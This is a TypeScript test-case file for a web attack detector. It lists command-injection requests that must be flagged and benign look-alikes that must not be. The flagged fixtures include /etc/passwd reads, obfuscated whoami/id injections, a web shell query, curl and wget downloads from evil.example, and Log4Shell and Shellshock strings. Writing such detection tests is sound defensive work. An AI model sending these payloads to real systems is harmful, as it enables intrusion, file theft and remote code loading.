import type { DetectionCase } from "../../model/detection.ts";
import { BROWSER, finding, get, post, quiet, typed } from "./case-events.ts";

export const cases: readonly DetectionCase[] = [
  ...finding("HIGH", "COMMAND_INJECTION", {
    "after a semicolon": get("/ping?host=127.0.0.1;cat /etc/passwd"),
    "encoded, with plus signs": get("/ping?host=127.0.0.1%3Bcat+/etc/passwd"),
    "after a pipe": get("/ping?host=127.0.0.1|id"),
    "after &&": get("/ping?host=x&&whoami"),
    "after an encoded &&": get("/ping?host=x%26%26+whoami"),
    substitution: get("/ping?host=$(whoami)"),
    backticks: get("/ping?host=`id`"),
    "a new line": get("/ping?host=x%0aid"),
    "IFS for spaces": get("/ping?host=x;cat${IFS}/etc/passwd"),
    "a brace list": get("/ping?host=x;{cat,/etc/passwd}"),
    "a word in pieces": get("/ping?host=x;c'a't /etc/passwd"),
    "backslashes in a word": get("/ping?host=x;w\\ho\\am\\i"),
    "a web shell": get("/uploads/x.php?cmd=whoami"),
    "a timing probe": post("/ping", "host=x;sleep 10"),
    "a download in a JSON body": post("/ping", '{"host":"x; curl http://evil.example/x.sh"}'),
    "Windows commands": get("/run?f=x%26type+c:\\windows\\win.ini"),
    "a header": get("/", { headers: { "X-Forwarded-For": "127.0.0.1; wget http://evil.example/a" } }),
    "called normal": typed("normal_traffic", { url: "/ping?host=1;uname -a" }, { severity: "INFO" }),
  }),
  ...finding("CRITICAL", "COMMAND_INJECTION", {
    Log4Shell: get("/", { user_agent: "${jndi:ldap://evil.example/a}" }),
    "Log4Shell in any header": get("/", { headers: { "X-Api-Version": "${jndi:rmi://evil.example/a}" } }),
    "Log4Shell with inner lookups": get("/?x=${${lower:j}${upper:n}d${::-i}:ldap://evil.example/a}"),
    "Log4Shell with defaults": get("/?x=%24%7B%24%7Benv:X:-j%7Dndi%24%7Benv:X:-:%7Dldap://e.example%7D"),
    "Log4Shell in a user name": typed("login_attempt", {
      username: "${jndi:dns://e.example}",
      success: false,
    }),
    "Log4Shell in bytes that are no HTTP": typed("http_request", {
      raw_request: "${jndi:ldap://e.example/a}",
    }),
    Shellshock: get("/cgi-bin/status", { user_agent: "() { :;}; /bin/bash -c 'id'" }),
  }),
  ...quiet({
    "a list of fields": get("/users?fields=name|id|email"),
    "parameters named like commands": get("/list?a=1&id&env&cat=shoes;id=5"),
    "a file manager": get("/connector.php?cmd=ls&target=l1_Lw"),
    "prose about cats": post("/posts", "Wait; cat pictures! Then ls, and sleep. Dogs || cats & more"),
    "jQuery code": post("/files", "$(id).hide(); $('#env').show(); var f = function() { return x; };"),
    "Markdown code": post("/posts", "Use `cat file.txt` or `ls -la` to look"),
    "a template": post("/mail", "Dear ${name}, your order ${order.id:-none} is on its way"),
    "a browser's request": get("/products/7", BROWSER),
    "a cookie named id": get("/", { headers: { cookie: "lang=en; id=42; env=prod" } }),
  }),
];
